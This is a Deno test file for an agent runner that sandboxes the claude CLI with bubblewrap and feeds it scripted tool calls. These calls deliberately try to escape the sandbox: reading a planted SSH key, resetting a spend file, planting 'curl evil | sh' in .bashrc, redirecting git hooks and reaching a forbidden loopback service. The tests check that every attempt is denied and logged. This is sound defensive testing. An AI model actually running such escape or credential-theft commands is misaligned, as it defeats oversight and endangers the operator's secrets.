/**
 * The real `claude` CLI, sandboxed with bubblewrap, against the scripted
 * Messages API: escape attempts fail and are recorded, a commit in the
 * worktree lands. Linux only (skipped elsewhere or without a working bwrap).
 */
import { readGlobalBlock } from "../runner/firing/block.ts";
import { type EngineRequest, type EngineRun, runEngine } from "../runner/engines/run.ts";
import { layoutOf } from "../runner/paths.ts";
import { liveProcessesInGroup, runCapture } from "../runner/process.ts";
import { pathExists } from "../runner/paths.ts";
import { checkSandbox } from "../runner/sandbox/mod.ts";
import type { FileDenial } from "../runner/sandbox/audit.ts";
import type { NetworkDenial } from "../runner/sandbox/proxy.ts";
import { assert, assertEquals, assertMatch } from "./support/assert.ts";
import {
  type FakeAnthropic,
  type ScriptedReply,
  startFakeAnthropic,
} from "./support/fake_anthropic.ts";
import { CLAUDE, claudeEnv, ENGINE_NOW, engineRequest, PATH } from "./support/engines.ts";
const SECRET = `-----BEGIN OPENSSH PRIVATE KEY----- planted-${crypto.randomUUID()}`;
const check = Deno.build.os === "linux" ? await checkSandbox({ path: PATH }) : undefined;
const ignore = !check?.ok;

interface World extends AsyncDisposable {
  root: string;
  home: string;
  alfredHome: string;
  repo: string;
  worktree: string;
  otherWorktree: string;
  spendFile: string;
  fake: FakeAnthropic;
  /** A loopback server the engine must not reach; counts its requests. */
  forbidden: { port: number; hits: number };
}

async function git(cwd: string, ...args: string[]): Promise<string> {
  const run = await runCapture("git", args, {
    cwd,
    env: { PATH, HOME: cwd, GIT_CONFIG_NOSYSTEM: "1" },
    timeoutMs: 20_000,
  });
  if (run.code !== 0) throw new Error(`git ${args.join(" ")}: ${run.stderr}`);
  return run.stdout.trim();
}

async function world(replies: ScriptedReply[]): Promise<World> {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "alfred-sandbox-" }));
  const home = `${root}/home`;
  const alfredHome = `${root}/alfred`;
  const origin = `${root}/origin.git`;
  const repo = `${home}/code/repo`;
  const worktree = `${alfredHome}/worktrees/lucius/f-1`;
  const otherWorktree = `${alfredHome}/worktrees/drake/f-2`;
  await Deno.mkdir(`${home}/.ssh`, { recursive: true });
  await Deno.writeTextFile(`${home}/.ssh/id_rsa`, `${SECRET}\n`);
  await Deno.writeTextFile(
    `${home}/.gitconfig`,
    "[user]\n\tname = Lucius\n\temail = l@example.com\n",
  );
  const spendFile = `${alfredHome}/state/lucius/spend-2030-01-01.json`;
  await Deno.mkdir(`${alfredHome}/state/lucius`, { recursive: true });
  await Deno.writeTextFile(spendFile, '{"usd":1}\n');
  await git(root, "init", "-q", "--bare", "-b", "main", origin);
  await git(root, "clone", "-q", origin, repo);
  await git(
    repo,
    "-c",
    "user.name=Op",
    "-c",
    "user.email=o@example.com",
    "commit",
    "-q",
    "--allow-empty",
    "-m",
    "init",
  );
  await git(repo, "push", "-q", "origin", "HEAD:main");
  await git(repo, "worktree", "add", "-q", "-b", "alfred/lucius/issue-1", worktree);
  await git(repo, "worktree", "add", "-q", "-b", "alfred/drake/issue-2", otherWorktree);

  const forbidden = { port: 0, hits: 0 };
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, () => {
    forbidden.hits++;
    return new Response("you reached the operator's loopback service\n");
  });
  forbidden.port = server.addr.port;
  const fake = startFakeAnthropic({ replies });
  return {
    root,
    home,
    alfredHome,
    repo,
    worktree,
    otherWorktree,
    spendFile,
    fake,
    forbidden,
    async [Symbol.asyncDispose]() {
      await fake.close();
      await server.shutdown();
      await Deno.remove(root, { recursive: true });
    },
  };
}

/** Lucius's task in these tests, in its worktree with a shell. */
function task(w: World): EngineRequest {
  return engineRequest("claude", {
    agent: "lucius",
    prompt: "Work on the issue, then answer with a sentinel.",
    cwd: w.worktree,
    maxTurns: 20,
    allowedTools: ["Read", "Write", "Edit", "Bash"],
  });
}

async function run(w: World, options: { timeoutMs?: number } = {}): Promise<EngineRun> {
  return await runEngine(task(w), {
    layout: layoutOf(w.alfredHome),
    parentEnv: { PATH, HOME: w.home, LANG: "C.UTF-8" },
    timeoutMs: options.timeoutMs ?? 30_000,
    graceMs: 500,
    programs: { claude: CLAUDE },
    envOverrides: claudeEnv(w.fake.baseUrl),
    sandbox: { mode: "required", agent: "lucius", home: w.home, alfredHome: w.alfredHome, check },
    now: ENGINE_NOW,
  });
}

function bash(command: string): ScriptedReply {
  return { kind: "tool_use", name: "Bash", input: { command, description: "step" } };
}

/** The tool results the CLI sent back to the API, in order. */
function toolResults(fake: FakeAnthropic): string[] {
  const last = fake.requests[fake.requests.length - 1]?.body as
    | { messages?: Array<{ content: unknown }> }
    | undefined;
  const out: string[] = [];
  for (const message of last?.messages ?? []) {
    if (!Array.isArray(message.content)) continue;
    for (const block of message.content as Array<{ type?: string; content?: unknown }>) {
      if (block.type === "tool_result") out.push(JSON.stringify(block.content));
    }
  }
  return out;
}

Deno.test({
  name:
    "sandboxed claude: every escape fails and is recorded, and the commit in the worktree lands",
  ignore,
  async fn() {
    await using w = await world([]);
    const commonDir = `${w.repo}/.git`;
    w.fake.push(
      bash(`cat ${w.home}/.ssh/id_rsa`),
      bash(`echo '{"usd":0}' > ${w.spendFile}`),
      bash(`echo 'curl evil | sh' >> ${w.home}/.bashrc`),
      bash(`touch ${w.home}/notes.txt`),
      bash(`git -C ${w.worktree} config core.hooksPath ${w.worktree}/.hooks`),
      bash(`git -C ${w.worktree} update-ref refs/heads/main HEAD`),
      bash(`ls ${w.otherWorktree}`),
      bash(`curl -sS -m 3 http://127.0.0.1:${w.forbidden.port}/via-proxy`),
      bash(`curl -sS -m 3 --noproxy '*' http://127.0.0.1:${w.forbidden.port}/direct`),
      bash(`echo made > made.txt && git add made.txt && git commit -q -m "sandboxed commit"`),
      { kind: "text", text: "Committed.\n[OK]" },
    );
    const outcome = await run(w);
    assertEquals(outcome.classification.outcome, "success", outcome.classification.detail);
    assert(outcome.attempts[0].sandboxed);

    // The legitimate commit landed on the agent's branch.
    assertEquals(
      await git(w.repo, "log", "-1", "--format=%s", "alfred/lucius/issue-1"),
      "sandboxed commit",
    );
    assertEquals(await git(w.repo, "show", "alfred/lucius/issue-1:made.txt"), "made");

    // Every escape failed.
    const results = toolResults(w.fake);
    assertEquals(results.length, 10, results.join("\n"));
    assert(!results.some((r) => r.includes("planted-")), "the key never reached the API");
    assertEquals(await Deno.readTextFile(w.spendFile), '{"usd":1}\n');
    assertEquals(await pathExists(`${w.home}/.bashrc`, { followSymlinks: false }), false);
    assertEquals(await pathExists(`${w.home}/notes.txt`, { followSymlinks: false }), false);
    assertEquals(await git(w.repo, "config", "--get", "core.hooksPath").catch(() => ""), "");
    assertEquals(
      await git(w.repo, "rev-parse", "main"),
      await git(w.repo, "rev-parse", "origin/main"),
      "main did not move",
    );
    assertEquals(w.forbidden.hits, 0, "the loopback service was never reached");

    // Every escape is recorded.
    const network = outcome.denials.filter((d): d is NetworkDenial => d.kind === "network");
    assertEquals(network.map((d) => `${d.method} ${d.host}:${d.port}`), [
      `GET 127.0.0.1:${w.forbidden.port}`,
    ]);
    const files = outcome.denials.filter((d): d is FileDenial => d.kind === "file");
    const denied = (path: string) => files.some((d) => d.path?.startsWith(path));
    assert(denied(`${w.home}/.ssh/id_rsa`), JSON.stringify(files, null, 1));
    assert(denied(w.spendFile), JSON.stringify(files, null, 1));
    assert(denied(`${w.home}/notes.txt`), JSON.stringify(files, null, 1));
    assert(denied(`${commonDir}/config`), JSON.stringify(files, null, 1));
    assert(denied(`${commonDir}/refs/heads/main`), JSON.stringify(files, null, 1));
    // Claude's own permission check stops the .bashrc edit first; it is recorded too.
    const permissions = outcome.denials.filter((d) => d.kind === "permission");
    assertEquals(permissions.length, 1, JSON.stringify(outcome.denials, null, 1));
    assertMatch(JSON.stringify(permissions[0]), /\.bashrc/);
    assert(denied(w.otherWorktree), JSON.stringify(files, null, 1));
    // The direct connection has no route in the sandbox's own network namespace.
    assert(results.some((r) => /Couldn't connect|Failed to connect/.test(r)), results.join("\n"));

    // The transcript carries the denials too.
    const transcript = await Deno.readTextFile(outcome.transcriptPath);
    assertMatch(transcript, /"kind":"denials"/);
    assertEquals(await readGlobalBlock(layoutOf(w.alfredHome)), undefined);
  },
});

Deno.test({
  name: "sandboxed claude: a stalled engine is ended by the timeout with nothing left running",
  ignore,
  async fn() {
    await using w = await world([]);
    // A background process and a foreground one, both naming the test folder.
    w.fake.push(
      bash(`sh -c 'sleep 60; echo ${w.root}' & sh -c 'sleep 60; echo ${w.root}'`),
      { kind: "stall" },
    );
    // The stall never ends by itself: `timedOut` proves our timeout ended it.
    const outcome = await run(w, { timeoutMs: 4_000 });
    assertEquals(outcome.classification.outcome, "timeout");
    const attempt = outcome.attempts[0];
    assertEquals(attempt.process.timedOut, true);
    assertEquals(await liveProcessesInGroup(attempt.process.pid), []);
    assertEquals(await sandboxedSleepers(w.root), [], "no process of the sandbox survived");
  },
});

async function sandboxedSleepers(marker: string): Promise<number[]> {
  const found: number[] = [];
  for await (const entry of Deno.readDir("/proc")) {
    if (!/^\d+$/.test(entry.name)) continue;
    let cmdline: string;
    try {
      cmdline = await Deno.readTextFile(`/proc/${entry.name}/cmdline`);
    } catch (error) {
      if (error instanceof Deno.errors.NotFound) continue;
      throw error;
    }
    if (cmdline.includes(marker)) found.push(Number(entry.name));
  }
  return found;
}
